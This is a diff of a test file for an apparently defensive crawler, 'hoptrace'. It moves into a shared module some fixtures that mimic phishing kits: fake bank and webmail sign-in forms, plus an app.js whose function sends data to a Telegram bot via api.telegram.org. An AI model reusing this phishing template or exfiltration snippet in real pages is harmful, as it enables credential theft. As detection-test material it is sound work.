@@ -9,26 +9,8 @@ import { join } from 'node:path';
 import Database from 'better-sqlite3';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { hoptrace, LOOPBACK } from '../fixtures/cli.ts';
+import { BOT, kit, serveKits } from '../fixtures/kits.ts';
 import { startFixtureServer, type FixtureServer } from '../fixtures/server.ts';
-
-const BOT = '7012345678:AAFq3vYkzL0mR8xWcT2bN5pQ7sD9uJ4hG6e';
-const SITEKEY = '6LcQx2EpAAAAAJ7w1Gk3yYbZr5mN8vT0aUe4sPqH';
-
-function kit(brand: string, headline: string): string {
-  const fields = ['email', 'password']
-    .map((f) => `<div class="row"><label for="${f}">${brand} ${f}</label><input id="${f}" name="${f}" type="${f}"></div>`)
-    .join('');
-  return `<!doctype html><html><head><meta charset="utf-8"><title>${brand} - Sign in</title>
-<link rel="icon" href="/kit/favicon.ico"><link rel="stylesheet" href="/kit/style.css"></head>
-<body><header><img src="/kit/logo.png" alt="${brand}"><nav><ul><li><a href="#">Help</a></li><li><a href="#">Privacy</a></li></ul></nav></header>
-<main><h1>${headline}</h1><p>Verify your ${brand} account to keep using ${brand} services.</p>
-<form action="/next.php" method="post">${fields}<div class="g-recaptcha" data-sitekey="${SITEKEY}"></div><button type="submit">Continue</button></form></main>
-<footer><p>© ${brand} Inc.</p><p><a href="#">Terms</a> · <a href="#">Cookies</a></p></footer><script src="/kit/app.js"></script></body></html>`;
-}
-
-const ARTICLE = `<!doctype html><html><head><title>Harbour festival returns</title><link rel="stylesheet" href="/site.css"></head>
-<body><article><h2>Harbour festival returns after three years</h2>${Array.from({ length: 12 }, (_, i) => `<p>Paragraph ${i} of the town's news about boats, music and food stalls along the quay.</p>`).join('')}
-<aside><table><tr><td>Saturday</td><td>Parade</td></tr><tr><td>Sunday</td><td>Fireworks</td></tr></table></aside></article></body></html>`;
 
 let server: FixtureServer;
 const dir = mkdtempSync(join(tmpdir(), 'hoptrace-fp-'));
@@ -46,30 +28,7 @@ async function similar(...args: string[]): Promise<Similar> {
 
 beforeAll(async () => {
   server = await startFixtureServer();
-  for (const host of ['login.alpha-bank.test', 'secure.beta-mail.test']) {
-    server.route(host, '/kit/style.css', (_q, res) => {
-      res.writeHead(200, { 'content-type': 'text/css' });
-      res.end('body{font-family:sans-serif;margin:0}.row{padding:8px}header{background:#0a3d91}h1{font-size:22px}');
-    });
-    server.route(host, '/kit/app.js', (_q, res) => {
-      res.writeHead(200, { 'content-type': 'application/javascript' });
-      res.end(`var t='${BOT}';var chat_id='-1001987654321';function send(d){fetch('https://api.telegram.org/bot'+t+'/sendMessage?chat_id='+chat_id+'&text='+d)}`);
-    });
-    for (const [path, bytes] of [['/kit/logo.png', 'logo-bytes-of-the-kit'], ['/kit/favicon.ico', 'icon-bytes-of-the-kit']] as const) {
-      server.route(host, path, (_q, res) => {
-        res.writeHead(200, { 'content-type': path.endsWith('png') ? 'image/png' : 'image/x-icon' });
-        res.end(Buffer.from(bytes));
-      });
-    }
-  }
-  server.page('login.alpha-bank.test', '/', kit('Alpha Bank', 'Sign in to Alpha Bank online'));
-  server.page('secure.beta-mail.test', '/', kit('BetaMail', 'Your BetaMail mailbox is almost full'));
-  server.page('news.harbour-town.test', '/', ARTICLE);
-  server.route('news.harbour-town.test', '/site.css', (_q, res) => {
-    res.writeHead(200, { 'content-type': 'text/css' });
-    res.end('article{max-width:40em}');
-  });
-  [kitA, kitB, article] = [server.url('login.alpha-bank.test', '/'), server.url('secure.beta-mail.test', '/'), server.url('news.harbour-town.test', '/')];
+  ({ kitA, kitB, article } = serveKits(server));
   const r = await hoptrace(['crawl', kitA, kitB, article, ...LOOPBACK, '--db', db, '--job', 'kits']);
   expect(r.code, r.stderr).toBe(0);
 }, 240_000);
